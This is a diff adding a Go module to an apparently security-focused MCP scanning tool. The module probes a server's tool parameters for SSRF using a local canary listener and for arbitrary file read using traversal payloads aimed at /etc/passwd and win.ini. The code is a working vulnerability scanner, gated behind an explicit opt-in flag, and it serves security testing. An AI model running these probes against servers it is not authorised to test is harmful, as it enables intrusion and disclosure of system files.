@@ -0,0 +1,382 @@
+// probe.go - SSRF and path traversal probes for URL and path parameters
+package main
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"regexp"
+	"strings"
+	"sync"
+	"text/tabwriter"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+	"github.com/spf13/cobra"
+)
+
+var (
+	probeAllow        bool
+	probeCanaryListen string
+	probeCanaryURL    string
+	probeWait         time.Duration
+	probeTimeout      time.Duration
+)
+
+var probeParamsCmd = &cobra.Command{
+	Use:   "probe-params <tool> [tool...]",
+	Short: "Probe URL and path parameters for SSRF and arbitrary file read",
+	Long: `Probe URL and path parameters for SSRF and arbitrary file read.
+
+URL parameters (format uri/url or URL-like names) are pointed at a local canary
+HTTP listener; a request arriving at the canary shows the tool can be used for
+SSRF. Path parameters receive traversal payloads and results are checked for
+leaked file contents such as /etc/passwd or win.ini.
+
+These probes call tools with attacker-controlled values and therefore require
+explicit opt-in with --allow-probes. If the server runs on another host, set
+--canary-url to an address of this machine that the server can reach.
+
+Examples:
+  mcpmap --sse=http://localhost:3000/sse probe-params fetch_url --allow-probes
+  mcpmap --http=http://10.0.0.5:8080/mcp probe-params read_file fetch \
+    --allow-probes --canary-listen 0.0.0.0:8899 --canary-url http://10.0.0.2:8899`,
+	Args: cobra.MinimumNArgs(1),
+	RunE: runProbeParams,
+}
+
+func init() {
+	rootCmd.AddCommand(probeParamsCmd)
+	probeParamsCmd.Flags().BoolVar(&jsonOutput, "json", false, "Output results in raw JSON format")
+	probeParamsCmd.Flags().
+		BoolVar(&probeAllow, "allow-probes", false, "Confirm that tools may be called with SSRF and traversal payloads")
+	probeParamsCmd.Flags().
+		StringVar(&probeCanaryListen, "canary-listen", "127.0.0.1:0", "Address for the canary HTTP listener")
+	probeParamsCmd.Flags().
+		StringVar(&probeCanaryURL, "canary-url", "", "Base URL the server should use to reach the canary (default: listener address)")
+	probeParamsCmd.Flags().
+		DurationVar(&probeWait, "wait", 3*time.Second, "How long to wait for delayed canary callbacks after the last probe")
+	probeParamsCmd.Flags().DurationVar(&probeTimeout, "timeout", 10*time.Second, "Timeout for each tool call")
+
+	probeParamsCmd.ValidArgsFunction = toolNameCompletion
+}
+
+// Probe kinds
+const (
+	probeKindSSRF = "ssrf"
+	probeKindRead = "file-read"
+)
+
+// probeReadPayloads are traversal paths whose contents are recognizable
+var probeReadPayloads = []string{
+	"/etc/passwd",
+	"../../../../../../../../etc/passwd",
+	"....//....//....//....//etc/passwd",
+	"C:\\Windows\\win.ini",
+	"..\\..\\..\\..\\..\\..\\Windows\\win.ini",
+}
+
+// probeLeakPatterns detect file contents leaked by read payloads
+var probeLeakPatterns = []*regexp.Regexp{
+	interestingPatterns["passwd-leak"],
+	interestingPatterns["win-ini-leak"],
+}
+
+// probeURLParamPattern matches parameter names that take URLs
+var probeURLParamPattern = regexp.MustCompile(`(?i)(^|_)(url|uri|link|href|endpoint|webhook|callback)s?(_|$)|url$|uri$`)
+
+// paramProbe is a single payload substituted into a single parameter
+type paramProbe struct {
+	Tool    string `json:"tool"`
+	Param   string `json:"param"`
+	Kind    string `json:"kind"`
+	Payload string `json:"payload"`
+	token   string
+}
+
+// probeResult records what a probe revealed
+type probeResult struct {
+	paramProbe
+	Callbacks   []canaryHit `json:"callbacks,omitempty"`
+	Reflected   bool        `json:"reflected,omitempty"`
+	Leaked      bool        `json:"leaked,omitempty"`
+	Exploitable bool        `json:"exploitable"`
+	Error       string      `json:"error,omitempty"`
+}
+
+// canaryHit is a request received by the canary listener
+type canaryHit struct {
+	Time       time.Time `json:"time"`
+	RemoteAddr string    `json:"remote_addr"`
+	Method     string    `json:"method"`
+	UserAgent  string    `json:"user_agent,omitempty"`
+}
+
+// canaryServer is an HTTP listener that records requests to per-probe tokens
+type canaryServer struct {
+	baseURL  string
+	listener net.Listener
+	server   *http.Server
+
+	mu   sync.Mutex
+	hits map[string][]canaryHit
+}
+
+// newCanaryServer starts listening on listenAddr. Probes reference publicURL,
+// or the listener address if publicURL is empty.
+func newCanaryServer(listenAddr, publicURL string) (*canaryServer, error) {
+	listener, err := net.Listen("tcp", listenAddr)
+	if err != nil {
+		return nil, fmt.Errorf("start canary listener: %w", err)
+	}
+
+	cs := &canaryServer{
+		baseURL:  strings.TrimSuffix(publicURL, "/"),
+		listener: listener,
+		hits:     make(map[string][]canaryHit),
+	}
+	if cs.baseURL == "" {
+		cs.baseURL = "http://" + listener.Addr().String()
+	}
+
+	cs.server = &http.Server{Handler: http.HandlerFunc(cs.handle)}
+	go cs.server.Serve(listener)
+
+	return cs, nil
+}
+
+func (cs *canaryServer) handle(w http.ResponseWriter, r *http.Request) {
+	token := strings.TrimPrefix(r.URL.Path, "/mcpmap/")
+
+	cs.mu.Lock()
+	cs.hits[token] = append(cs.hits[token], canaryHit{
+		Time:       time.Now(),
+		RemoteAddr: r.RemoteAddr,
+		Method:     r.Method,
+		UserAgent:  r.UserAgent(),
+	})
+	cs.mu.Unlock()
+
+	fmt.Fprint(w, canaryMarker(token))
+}
+
+// URL returns the canary URL for token
+func (cs *canaryServer) URL(token string) string {
+	return cs.baseURL + "/mcpmap/" + token
+}
+
+// Hits returns the requests received for token
+func (cs *canaryServer) Hits(token string) []canaryHit {
+	cs.mu.Lock()
+	defer cs.mu.Unlock()
+	return append([]canaryHit(nil), cs.hits[token]...)
+}
+
+func (cs *canaryServer) Close() error {
+	return cs.server.Close()
+}
+
+// canaryMarker is the body served for token, used to detect reflected responses
+func canaryMarker(token string) string {
+	return "mcpmap-canary-" + token
+}
+
+// newProbeToken returns a random token identifying a single probe
+func newProbeToken() string {
+	b := make([]byte, 8)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+// isURLParam reports whether param takes a URL
+func isURLParam(param *ParameterSchema) bool {
+	return param.Format == "uri" || param.Format == "url" || param.Format == "uri-reference" ||
+		probeURLParamPattern.MatchString(param.Name)
+}
+
+// isPathParam reports whether param takes a filesystem path
+func isPathParam(param *ParameterSchema) bool {
+	return pathParamPattern.MatchString(param.Name) || param.Format == "path"
+}
+
+// buildParamProbes returns the probes for every URL and path string parameter of a tool
+func buildParamProbes(toolName string, schema *ToolSchema, canary *canaryServer) []paramProbe {
+	var probes []paramProbe
+	for _, name := range sortedKeys(schema.Parameters) {
+		param := schema.Parameters[name]
+		if param.Type != "string" && param.Type != "" {
+			continue
+		}
+
+		switch {
+		case isURLParam(param):
+			token := newProbeToken()
+			probes = append(probes,
+				paramProbe{Tool: toolName, Param: name, Kind: probeKindSSRF, Payload: canary.URL(token), token: token},
+				paramProbe{Tool: toolName, Param: name, Kind: probeKindRead, Payload: "file:///etc/passwd"},
+				paramProbe{Tool: toolName, Param: name, Kind: probeKindRead, Payload: "file:///C:/Windows/win.ini"},
+			)
+		case isPathParam(param):
+			for _, payload := range probeReadPayloads {
+				probes = append(probes, paramProbe{Tool: toolName, Param: name, Kind: probeKindRead, Payload: payload})
+			}
+		}
+	}
+	return probes
+}
+
+// evaluateProbe inspects a tool result for leaks or a reflected canary body
+func evaluateProbe(probe paramProbe, res *mcp.CallToolResult) probeResult {
+	result := probeResult{paramProbe: probe}
+
+	text := contentText(resultContent(res))
+	if res != nil && res.StructuredContent != nil {
+		if js, err := json.Marshal(res.StructuredContent); err == nil {
+			text += "\n" + string(js)
+		}
+	}
+
+	if probe.token != "" && strings.Contains(text, canaryMarker(probe.token)) {
+		result.Reflected = true
+	}
+	for _, re := range probeLeakPatterns {
+		if re.MatchString(text) {
+			result.Leaked = true
+		}
+	}
+
+	return result
+}
+
+// probeTools runs all probes for the given tools over a single session
+func probeTools(ctx context.Context, session *mcp.ClientSession, toolNames []string, canary *canaryServer) ([]probeResult, error) {
+	var results []probeResult
+	for _, toolName := range toolNames {
+		tool, err := getTool(ctx, session, toolName)
+		if err != nil {
+			return nil, err
+		}
+		if err := defaultToolGate.Check(tool, toolName); err != nil {
+			return nil, err
+		}
+		schema, err := toolSchema(tool)
+		if err != nil {
+			return nil, err
+		}
+		baseline := baselineArguments(schema)
+
+		probes := buildParamProbes(toolName, schema, canary)
+		if len(probes) == 0 {
+			fmt.Fprintf(os.Stderr, "Warning: tool %q has no URL or path parameters to probe\n", toolName)
+		}
+
+		for _, probe := range probes {
+			callCtx, cancel := context.WithTimeout(ctx, probeTimeout)
+			res, err := session.CallTool(callCtx, &mcp.CallToolParams{
+				Name:      toolName,
+				Arguments: withArgument(baseline, probe.Param, probe.Payload),
+			})
+			cancel()
+
+			result := evaluateProbe(probe, res)
+			if err != nil {
+				result.Error = err.Error()
+			}
+			results = append(results, result)
+		}
+	}
+
+	// Give servers that fetch asynchronously a chance to call back
+	if probeWait > 0 {
+		time.Sleep(probeWait)
+	}
+	for i := range results {
+		if results[i].token != "" {
+			results[i].Callbacks = canary.Hits(results[i].token)
+		}
+		results[i].Exploitable = len(results[i].Callbacks) > 0 || results[i].Reflected || results[i].Leaked
+	}
+
+	return results, nil
+}
+
+// probeVerdict describes an exploitable probe result
+func probeVerdict(r probeResult) string {
+	switch {
+	case r.Kind == probeKindSSRF && r.Reflected:
+		return "full SSRF (response returned)"
+	case r.Kind == probeKindSSRF && len(r.Callbacks) > 0:
+		return "blind SSRF (callback received)"
+	case r.Leaked:
+		return "arbitrary file read"
+	default:
+		return "not exploitable"
+	}
+}
+
+func runProbeParams(cmd *cobra.Command, args []string) error {
+	if !probeAllow {
+		return fmt.Errorf("probe-params calls tools with SSRF and traversal payloads, pass --allow-probes to confirm")
+	}
+
+	canary, err := newCanaryServer(probeCanaryListen, probeCanaryURL)
+	if err != nil {
+		return err
+	}
+	defer canary.Close()
+	fmt.Fprintf(os.Stderr, "Canary listening at %s\n", canary.baseURL)
+
+	ctx := context.Background()
+	return withSession(ctx, func(session *mcp.ClientSession) error {
+		results, err := probeTools(ctx, session, args, canary)
+		if err != nil {
+			return err
+		}
+
+		if jsonOutput {
+			for _, r := range results {
+				if js, err := json.Marshal(r); err == nil {
+					fmt.Fprintln(os.Stdout, string(js))
+				}
+			}
+			return nil
+		}
+
+		w := tabwriter.NewWriter(os.Stdout, 0, 0, 2, ' ', 0)
+		fmt.Fprintln(w, "TOOL\tPARAM\tKIND\tPAYLOAD\tRESULT")
+		for _, r := range results {
+			verdict := probeVerdict(r)
+			if r.Error != "" && !r.Exploitable {
+				verdict = "error: " + firstLine(r.Error)
+			}
+			fmt.Fprintf(w, "%s\t%s\t%s\t%s\t%s\n", r.Tool, r.Param, r.Kind, r.Payload, verdict)
+		}
+		w.Flush()
+
+		fmt.Println()
+		found := false
+		for _, r := range results {
+			if r.Exploitable {
+				found = true
+				fmt.Printf("EXPLOITABLE: %s.%s is a %s primitive\n", r.Tool, r.Param, probeVerdict(r))
+			}
+		}
+		if !found {
+			fmt.Println("No exploitable parameters found")
+		}
+		return nil
+	})
+}
+
+// firstLine returns s up to its first newline
+func firstLine(s string) string {
+	if i := strings.IndexByte(s, '\n'); i >= 0 {
+		return s[:i]
+	}
+	return s
+}